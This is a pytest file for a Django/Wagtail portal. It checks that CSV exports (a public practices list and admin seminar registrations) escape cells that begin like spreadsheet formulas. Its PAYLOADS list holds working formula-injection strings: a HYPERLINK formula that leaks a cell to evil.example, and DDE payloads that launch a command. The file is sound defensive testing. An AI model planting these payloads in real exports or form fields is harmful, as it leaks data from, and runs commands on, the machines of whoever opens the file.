"""CSV formula injection (issue 14, item 6): text a member typed never becomes a spreadsheet formula.

A cell beginning with ``= + - @``, a tab or a carriage return is run as a formula by
Excel/LibreOffice (``=HYPERLINK(...)`` leaks data, DDE runs commands). Every CSV export
writes such text with a leading apostrophe: the public practices export and the admin's
exports (seminar registrations, and Wagtail's own listings and reports through the same mixin).
"""
from __future__ import annotations

import csv
import io

import pytest

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1;"clic")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(response, delimiter) -> list[str]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def _assert_neutralised(cells: list[str]) -> None:
    dangerous = [c for c in cells if c.startswith(DANGEROUS)]
    assert not dangerous, dangerous
    for payload in PAYLOADS:
        assert "'" + payload in cells, (payload, "kept, behind an apostrophe")


def test_safe_cell_prefixes_only_formula_starts():
    from portal.exports import safe_cell

    assert [safe_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert safe_cell("Società della Salute") == "Società della Salute"
    assert safe_cell(-3) == -3 and safe_cell(None) is None and safe_cell("") == ""


def test_public_practices_export(client):
    from tests import builders

    zona = builders.zona("val-di-nievole", "Val di Nievole")
    for n, payload in enumerate(PAYLOADS):
        builders.practice(payload, payload, zona_obj=zona, owner_body=payload, slug=f"formula-{n}")
    response = client.get("/export/buone-pratiche.csv")
    assert response.status_code == 200
    _assert_neutralised(_cells(response, ";"))


def test_admin_registrations_export(client):
    from portal.accounts import registrations
    from tests.accounts.conftest import make_member, make_seminar
    from tests.security.conftest import site_tree

    seminar = make_seminar(site_tree(), "seminario-formule", capacity=50)
    for n, payload in enumerate(PAYLOADS):
        member = make_member(f"formula{n}@example.it")
        member.first_name = member.last_name = payload
        member.save()
        registrations.register(seminar, member)
    client.force_login(make_member("admin@example.it", is_staff=True, is_superuser=True))
    response = client.get("/admin/seminar_registrations/?export=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    _assert_neutralised(_cells(response, ","))
